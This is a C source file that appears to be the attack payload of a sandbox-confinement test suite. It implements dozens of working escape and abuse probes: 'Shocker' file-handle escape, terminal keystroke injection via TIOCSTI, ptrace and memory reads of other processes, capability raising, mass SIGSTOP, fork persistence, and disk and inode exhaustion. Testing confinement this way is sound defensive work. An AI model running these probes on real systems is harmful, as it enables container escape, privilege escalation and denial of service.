/*
 * payload.c - a hostile payload: `payload ATTACK [ARGUMENT...]`.
 *
 * Each attack prints one word: the name of the errno that stopped it, or "ok"
 * (with a value, if there is one) when it got what it wanted. Static, so that it
 * runs in any root; raw system calls, so that no libc stands in between.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

/* Newer than some libcs' headers; the same numbers on every architecture. */
enum {
	PIDFD_SEND_SIGNAL = 424,
	OPEN_TREE = 428,
	MOVE_MOUNT = 429,
	FSOPEN = 430,
	FSPICK = 433,
	PIDFD_OPEN = 434,
	CLONE3 = 435,
	PIDFD_GETFD = 438,
	MOUNT_SETATTR = 442,
	LISTMOUNT = 458,
};

static const char *outcome(long result)
{
	return result < 0 ? strerrorname_np(errno) : "ok";
}

static int say(long result)
{
	puts(outcome(result));
	return 0;
}

static long number(const char *text)
{
	return text ? (long)strtoull(text, NULL, 0) : 0;
}

/* ---- any system call ------------------------------------------------ */

/* clang-format off */
#define NAMED(name) { #name, SYS_##name }

static const struct {
	const char *name;
	long number;
} calls[] = {
	NAMED(acct), NAMED(add_key), NAMED(bpf), NAMED(chroot),
	NAMED(clock_settime), NAMED(delete_module), NAMED(fanotify_init), NAMED(fchmodat),
	NAMED(fchownat), NAMED(finit_module), NAMED(init_module), NAMED(io_uring_setup),
	NAMED(kexec_load), NAMED(keyctl), NAMED(kill), NAMED(linkat), NAMED(mkdirat),
	NAMED(mknodat), NAMED(mount), NAMED(name_to_handle_at), NAMED(openat),
	NAMED(perf_event_open), NAMED(personality), NAMED(pivot_root), NAMED(quotactl),
	NAMED(reboot), NAMED(renameat2), NAMED(sched_setscheduler), NAMED(setdomainname),
	NAMED(setgroups), NAMED(sethostname), NAMED(setns), NAMED(setresgid), NAMED(setresuid),
	NAMED(settimeofday), NAMED(setxattr), NAMED(socket), NAMED(swapoff), NAMED(swapon),
	NAMED(symlinkat), NAMED(syslog), NAMED(truncate), NAMED(umount2), NAMED(unlinkat),
	NAMED(unshare), NAMED(userfaultfd), NAMED(utimensat), NAMED(vhangup),
	{ "open_tree", OPEN_TREE }, { "move_mount", MOVE_MOUNT }, { "fsopen", FSOPEN },
	{ "fspick", FSPICK }, { "mount_setattr", MOUNT_SETATTR }, { "pidfd_open", PIDFD_OPEN },
#ifdef __x86_64__
	NAMED(iopl), NAMED(ioperm),
#endif
};
/* clang-format on */

static long call_number(const char *name)
{
	for (size_t i = 0; i < sizeof calls / sizeof *calls; i++)
		if (!strcmp(calls[i].name, name))
			return calls[i].number;
	fprintf(stderr, "unknown call %s\n", name);
	exit(2);
}

/* An argument: a number, or "s:TEXT" for a string, or "z:SIZE" for that many zero bytes. */
static long argument(char *text)
{
	if (!text)
		return 0;
	if (!strncmp(text, "s:", 2))
		return (long)(text + 2);
	if (!strncmp(text, "z:", 2))
		return (long)calloc(1, (size_t)number(text + 2));
	return number(text);
}

static int call(char **args)
{
	long a[6] = { 0 };
	for (int i = 0; i < 6 && args[i + 1]; i++)
		a[i] = argument(args[i + 1]);
	return say(syscall(call_number(args[0]), a[0], a[1], a[2], a[3], a[4], a[5]));
}

/* ---- other processes ------------------------------------------------ */

/* Keep every other process of this pid namespace stopped. */
static int stop_others(char **args)
{
	(void)args;
	puts("ready");
	fflush(stdout);
	while (kill(1, 0) == 0)
		for (int pid = 2; pid < 64; pid++)
			if (pid != getpid())
				kill(pid, SIGSTOP);
	return 0;
}

/* The same for the children of a process of this pid namespace, until stdin ends. */
static int stop_children(char **args)
{
	char path[64], text[4096];
	struct pollfd end = { .fd = 0, .events = POLLIN };

	snprintf(path, sizeof path, "/proc/%s/task/%s/children", args[0], args[0]);
	puts("ready");
	fflush(stdout);
	while (poll(&end, 1, 0) == 0) {
		int fd = open(path, O_RDONLY);
		ssize_t length = read(fd, text, sizeof text - 1);
		close(fd);
		text[length < 0 ? 0 : length] = '\0';
		for (char *next = text; *next;) {
			long pid = strtol(next, &next, 10);
			if (pid > 0 && pid != getpid())
				kill((pid_t)pid, SIGSTOP);
			next += *next == ' ';
		}
	}
	return 0;
}

/*
 * What a process can do to another: the names of what was possible with any pid from first to last
 * that is not this one.
 */
static int reach_others(char **args)
{
	char byte;
	struct iovec local = { &byte, 1 }, remote = { (void *)outcome, 1 };
	int found = 0;

	for (pid_t pid = (pid_t)number(args[0]); pid <= number(args[1]); pid++) {
		if (pid == getpid())
			continue;
		int pidfd = (int)syscall(PIDFD_OPEN, pid, 0);
		const struct {
			const char *name;
			long result;
		} reached[] = {
			{ "kill", kill(pid, 0) },
			{ "ptrace", ptrace(PTRACE_SEIZE, pid, 0, 0) },
			{ "process_vm_readv", process_vm_readv(pid, &local, 1, &remote, 1, 0) },
			{ "kcmp", syscall(SYS_kcmp, getpid(), pid, 0, 0, 0) },
			{ "prlimit", prlimit(pid, RLIMIT_NOFILE, NULL, &(struct rlimit){ 0 }) },
			{ "setpriority", setpriority(PRIO_PROCESS, (id_t)pid, 19) },
			{ "sched_setscheduler",
			  sched_setscheduler(pid, SCHED_IDLE, &(struct sched_param){ 0 }) },
			{ "pidfd_getfd", syscall(PIDFD_GETFD, pidfd, 0, 0) },
			{ "setns", setns(pidfd, CLONE_NEWNET) },
		};
		for (size_t i = 0; i < sizeof reached / sizeof *reached; i++)
			if (reached[i].result >= 0)
				found += printf("%s(%d) ", reached[i].name, pid);
		if (pidfd >= 0)
			close(pidfd);
	}
	puts(found ? "" : "none");
	return 0;
}

/* Through a socket that was passed: a descriptor of the process at its other end. */
static int peer(char **args)
{
	enum { PEERPIDFD = 77 }; /* SO_PEERPIDFD, Linux 6.5 */
	int pidfd = -1, found = 0;
	socklen_t size = sizeof pidfd;

	if (getsockopt((int)number(args[0]), SOL_SOCKET, PEERPIDFD, &pidfd, &size) < 0)
		return say(-1);
	for (int nr = 0; nr < 64; nr++)
		if (syscall(PIDFD_GETFD, pidfd, nr, 0) >= 0)
			found += printf("getfd(%d) ", nr);
	if (syscall(PIDFD_SEND_SIGNAL, pidfd, 0, NULL, 0) >= 0)
		found += printf("signal ");
	static const int kinds[] = { CLONE_NEWNS,  CLONE_NEWUTS, CLONE_NEWIPC,   CLONE_NEWUSER,
				     CLONE_NEWPID, CLONE_NEWNET, CLONE_NEWCGROUP };
	for (size_t i = 0; i < sizeof kinds / sizeof *kinds; i++)
		if (setns(pidfd, kinds[i]) >= 0)
			found += printf("setns(%x) ", kinds[i]);
	/* linux/pidfd.h: PIDFD_GET_CGROUP_NAMESPACE to PIDFD_GET_UTS_NAMESPACE */
	for (unsigned request = 1; request <= 10; request++)
		if (ioctl(pidfd, 0xff00 | request, 0) >= 0)
			found += printf("namespace(%u) ", request);
	puts(found ? "" : "none");
	return 0;
}

/* A daemon that holds stdout open, and the payload ends at once. */
static int daemonize(char **args)
{
	(void)args;
	if (fork() == 0) {
		setsid();
		if (fork() == 0) {
			for (int signal = 1; signal < 32; signal++)
				(void)!sigaction(
					signal, &(struct sigaction){ .sa_handler = SIG_IGN }, NULL);
			prctl(PR_SET_PDEATHSIG, 0);
			for (;;)
				pause();
		}
		_exit(0);
	}
	wait(NULL);
	puts("ok");
	return 0;
}

/* Processes without end, each of which tries to outlive the others. */
static int fork_some(char **args)
{
	for (long left = number(args[0]); left > 0; left--) {
		if (fork() == 0) {
			setsid();
			for (;;)
				pause();
		}
	}
	puts("ok");
	return 0;
}

/* ---- a child with new namespaces ------------------------------------ */

static int clone_with(char **args)
{
	long pid = syscall(SYS_clone, number(args[0]) | SIGCHLD, 0, 0, 0, 0);
	if (pid == 0)
		_exit(0);
	return say(pid);
}

static int clone3_with(char **args)
{
	uint64_t arguments[8] = { (uint64_t)number(args[0]), 0, 0, 0, SIGCHLD };
	long pid = syscall(CLONE3, arguments, sizeof arguments);
	if (pid == 0)
		_exit(0);
	return say(pid);
}

/*
 * A nested user namespace, where there is one: this process has all capabilities in it, over
 * whatever belongs to it. What then, of what it should not, works?
 */
static int nested(char **args)
{
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0) {
		puts("refused");
		return 0;
	}
	return call(args);
}

/* ---- ABIs ----------------------------------------------------------- */

#ifdef __x86_64__
static long i386_call(long nr, long a, long b, long c, long d, long e)
{
	long result;
	__asm__ volatile("int $0x80"
			 : "=a"(result)
			 : "a"(nr), "b"(a), "c"(b), "d"(c), "S"(d), "D"(e)
			 : "memory", "r8", "r9", "r10", "r11");
	if (result >= -4095 && result < 0) {
		errno = (int)-result;
		return -1;
	}
	return result;
}

/* By the i386 ABI: its numbers, strings below 4 GiB. */
static int i386(char **args)
{
	static char low[4096]; /* a static program's data is there */
	long a[5] = { 0 };
	char *free = low;
	for (int i = 0; i < 5 && args[i + 1]; i++) {
		a[i] = argument(args[i + 1]);
		if (!strncmp(args[i + 1], "s:", 2)) {
			strcpy(free, args[i + 1] + 2);
			a[i] = (long)free;
			free += strlen(free) + 1;
		}
	}
	return say(i386_call(number(args[0]), a[0], a[1], a[2], a[3], a[4]));
}

static int x32(char **args)
{
	return say(syscall(0x40000000L | call_number(args[0]), argument(args[1]), 0, 0, 0, 0));
}
#endif

/* ---- privileges ----------------------------------------------------- */

static int raise_capabilities(char **args)
{
	struct __user_cap_header_struct header = { .version = _LINUX_CAPABILITY_VERSION_3 };
	struct __user_cap_data_struct data[2] = { { 0 } };

	(void)args;
	for (int capability = 0; capability < 41; capability++) {
		memset(data, 0, sizeof data);
		data[capability / 32].permitted = 1U << capability % 32;
		data[capability / 32].effective = data[capability / 32].permitted;
		if (syscall(SYS_capset, &header, data) == 0)
			return printf("ok %d\n", capability) < 0;
	}
	return say(-1);
}

static int raise_ambient(char **args)
{
	(void)args;
	for (long capability = 0; capability < 41; capability++)
		if (prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, capability, 0, 0) == 0)
			return printf("ok %ld\n", capability) < 0;
	return say(-1);
}

static int undo_no_new_privs(char **args)
{
	(void)args;
	return say(prctl(PR_SET_NO_NEW_PRIVS, 0, 0, 0, 0));
}

static int raise_limit(char **args)
{
	struct rlimit limit;
	int resource = (int)number(args[0]);

	getrlimit(resource, &limit);
	if (limit.rlim_max == RLIM_INFINITY) {
		puts("unlimited");
		return 0;
	}
	limit.rlim_cur = limit.rlim_max = limit.rlim_max + 1;
	return say(setrlimit(resource, &limit));
}

/* ---- files ---------------------------------------------------------- */

static int open_file(char **args)
{
	return say(open(args[0], (int)number(args[1]), 0600));
}

/* The contents of a file, or the errno. */
static int read_file(char **args)
{
	char text[256];
	int fd = open(args[0], O_RDONLY | O_NONBLOCK);
	ssize_t length = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
	if (length < 0)
		return say(-1);
	text[length] = '\0';
	fputs(length ? text : "empty", stdout);
	return 0;
}

/* Write until it fails: "ERRNO MEBIBYTES". */
static int fill_bytes(char **args)
{
	static char block[1 << 20];
	long written = 0;
	ssize_t last;
	int fd = open(args[0], O_WRONLY | O_CREAT, 0600);

	memset(block, 'x', sizeof block);
	while ((last = write(fd, block, sizeof block)) > 0)
		written += last;
	printf("%s %ld\n", outcome(last), written >> 20);
	return 0;
}

/* The same through a mapping of a sparse file: the kernel can only say so by a signal. */
static int fill_mapping(char **args)
{
	int fd = open(args[0], O_RDWR | O_CREAT, 0600);
	size_t size = 1UL << 34;
	if (fd < 0 || ftruncate(fd, (off_t)size) < 0)
		return say(-1);
	char *memory = (char *)syscall(SYS_mmap, 0, size, 3, 1 /* MAP_SHARED */, fd, 0);
	for (size_t at = 0; at < size; at += 4096)
		memory[at] = 1;
	puts("ok");
	return 0;
}

static int fill_inodes(char **args)
{
	char name[256];
	long made = 0;
	int fd;

	do {
		snprintf(name, sizeof name, "%s/%ld", args[0], made);
		fd = open(name, O_WRONLY | O_CREAT, 0600);
		made += fd >= 0;
	} while (fd >= 0 && close(fd) == 0);
	printf("%s %ld\n", outcome(fd), made);
	return 0;
}

static int deep_directories(char **args)
{
	char name[256];
	long made = 0, result = chdir(args[0]);

	memset(name, 'd', 255);
	name[255] = '\0';
	while (result == 0 && made < number(args[1])) {
		result = mkdir(name, 0700);
		if (result == 0)
			result = chdir(name);
		made += result == 0;
	}
	printf("%s %ld\n", outcome(result), made);
	return 0;
}

/* "Shocker": files of a whole file system by their handles, beside all paths. */
static int by_handle(char **args)
{
	struct {
		unsigned size;
		int type;
		unsigned char bytes[128];
	} handle = { .size = 8, .type = 1, .bytes = { 2 } }; /* ext4: inode 2, the root directory */
	int mount = open(args[0], O_RDONLY | O_DIRECTORY);
	return say(syscall(SYS_open_by_handle_at, mount, &handle, O_RDONLY));
}

/* The same for the namespaces of the host, whose identities are the same on every machine. */
static int namespace_by_handle(char **args)
{
	static const struct {
		uint32_t inode, type;
	} first[] = { { 0xEFFFFFFD, CLONE_NEWUSER }, { 0xEFFFFFFC, CLONE_NEWPID },
		      { 0xEFFFFFFE, CLONE_NEWUTS },  { 0xEFFFFFFF, CLONE_NEWIPC },
		      { 0xEFFFFFF9, CLONE_NEWNET },  { 0xEFFFFFF8, CLONE_NEWNS } };
	struct {
		unsigned size;
		int type;
		uint64_t id;
		uint32_t kind, inode;
	} handle = { .size = 16, .type = 241 }; /* FILEID_NSFS, Linux 6.18 */

	(void)args;
	for (size_t i = 0; i < sizeof first / sizeof *first; i++)
		for (handle.id = 1; handle.id < 32; handle.id++) {
			handle.kind = first[i].type;
			handle.inode = first[i].inode;
			if (syscall(SYS_open_by_handle_at, -10003 /* FD_NSFS_ROOT */, &handle, 0) >=
			    0)
				return printf("ok %x\n", first[i].type) < 0;
		}
	return say(-1);
}

/* Mounts that listmount(2) shows and that mountinfo does not. */
static int list_mounts(char **args)
{
	struct {
		uint32_t size, spare;
		uint64_t mount, parameter;
	} request = { .size = 24, .mount = UINT64_MAX /* LSMT_ROOT */ };
	uint64_t ids[512];
	char line[4096];
	long lines = 1; /* the root's own mount is not below itself */

	(void)args;
	long listed = syscall(LISTMOUNT, &request, ids, 512, 0);
	if (listed < 0)
		return say(-1);
	FILE *table = fopen("/proc/self/mountinfo", "re");
	while (table && fgets(line, sizeof line, table))
		lines++;
	puts(listed <= lines ? "none" : "more");
	return 0;
}

/* ---- channels ------------------------------------------------------- */

/* Type one character into a terminal, with further bits in the part of the request that is ignored.
 */
static int type_character(char **args)
{
	return say(syscall(SYS_ioctl, 0, TIOCSTI | (unsigned long)number(args[0]), "x"));
}

static int terminal(char **args)
{
	return say(syscall(SYS_ioctl, 0, number(args[0]), "\3"));
}

static int abstract(char **args)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	strncpy(address.sun_path + 1, args[0], sizeof address.sun_path - 2);
	socklen_t size = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(args[0]));
	return say(connect(fd, (struct sockaddr *)&address, size));
}

/* Listen on an abstract name until stdin ends. */
static int abstract_server(char **args)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	strncpy(address.sun_path + 1, args[0], sizeof address.sun_path - 2);
	socklen_t size = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(args[0]));
	say(bind(fd, (struct sockaddr *)&address, size) < 0 ? -1 : listen(fd, 1));
	fflush(stdout);
	return (int)read(0, &fd, 1);
}

static int connect_to(char **args)
{
	struct sockaddr_in address = { .sin_family = AF_INET };
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	inet_pton(AF_INET, args[0], &address.sin_addr);
	address.sin_port = htons((uint16_t)number(args[1]));
	return say(connect(fd, (struct sockaddr *)&address, sizeof address));
}

/* Ask rtnetlink to make a device of a kind: the errno of its answer. */
static int new_link(char **args)
{
	struct {
		struct nlmsghdr header;
		struct ifinfomsg info;
		struct rtattr about, kind;
		char text[8];
	} request = {
		.header = { .nlmsg_len = sizeof request,
			    .nlmsg_type = RTM_NEWLINK,
			    .nlmsg_flags = NLM_F_REQUEST | NLM_F_CREATE | NLM_F_ACK },
		.about = { 4 + 4 + 8, IFLA_LINKINFO },
		.kind = { 4 + 8, 1 /* IFLA_INFO_KIND */ },
	};
	struct {
		struct nlmsghdr header;
		struct nlmsgerr error;
		char rest[512];
	} answer;

	strncpy(request.text, args[0], sizeof request.text);
	int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
	if (fd < 0 || send(fd, &request, sizeof request, 0) < 0 ||
	    recv(fd, &answer, sizeof answer, 0) < 0)
		return say(-1);
	errno = -answer.error.error;
	return say(errno ? -1 : 0);
}

/* Give a key to a keyring, or look for it in one: KEY_SPEC_*_KEYRING by number. */
static int key_add(char **args)
{
	return say(syscall(SYS_add_key, "user", args[1], "x", 1, number(args[0])));
}

static int key_search(char **args)
{
	return say(
		syscall(SYS_keyctl, 10 /* KEYCTL_SEARCH */, number(args[0]), "user", args[1], 0));
}

static int shared_memory(char **args)
{
	return say(syscall(SYS_shmget, number(args[0]), 4096, number(args[1])));
}

static int message_queue(char **args)
{
	return say(syscall(SYS_mq_open, args[0], number(args[1]), 0666, NULL));
}

/* Print more than anybody wants to read. */
static int flood(char **args)
{
	static char block[1 << 16];
	(void)args;
	memset(block, '\xff', sizeof block);
	while (write(1, block, sizeof block) > 0)
		;
	return 0;
}

static int close_and_spin(char **args)
{
	(void)args;
	for (int fd = 0; fd < 3; fd++)
		close(fd);
	while (sched_yield() == 0)
		;
	return 0;
}

/* Descriptors other than 0, 1, 2. */
static int descriptors(char **args)
{
	int found = 0;
	(void)args;
	for (int fd = 3; fd < 65536; fd++)
		if (fcntl(fd, F_GETFD) >= 0)
			found += printf("%d ", fd);
	puts(found ? "" : "none");
	return 0;
}

/* ---- which attack --------------------------------------------------- */

static const struct {
	const char *name;
	int (*run)(char **args);
} attacks[] = {
	{ "abstract", abstract },
	{ "abstract-server", abstract_server },
	{ "by-handle", by_handle },
	{ "call", call },
	{ "clone", clone_with },
	{ "clone3", clone3_with },
	{ "close-and-spin", close_and_spin },
	{ "connect", connect_to },
	{ "daemonize", daemonize },
	{ "deep-directories", deep_directories },
	{ "descriptors", descriptors },
	{ "fill-bytes", fill_bytes },
	{ "fill-inodes", fill_inodes },
	{ "fill-mapping", fill_mapping },
	{ "flood", flood },
	{ "fork", fork_some },
#ifdef __x86_64__
	{ "i386", i386 },
	{ "x32", x32 },
#endif
	{ "key-add", key_add },
	{ "key-search", key_search },
	{ "list-mounts", list_mounts },
	{ "message-queue", message_queue },
	{ "namespace-by-handle", namespace_by_handle },
	{ "nested", nested },
	{ "new-link", new_link },
	{ "open", open_file },
	{ "peer", peer },
	{ "raise-ambient", raise_ambient },
	{ "raise-capabilities", raise_capabilities },
	{ "raise-limit", raise_limit },
	{ "reach-others", reach_others },
	{ "read", read_file },
	{ "shared-memory", shared_memory },
	{ "stop-children", stop_children },
	{ "stop-others", stop_others },
	{ "terminal", terminal },
	{ "type-character", type_character },
	{ "undo-no-new-privs", undo_no_new_privs },
};

int main(int argc, char **argv)
{
	for (size_t i = 0; argc > 1 && i < sizeof attacks / sizeof *attacks; i++)
		if (!strcmp(attacks[i].name, argv[1]))
			return attacks[i].run(argv + 2);
	fprintf(stderr, "unknown attack\n");
	return 2;
}
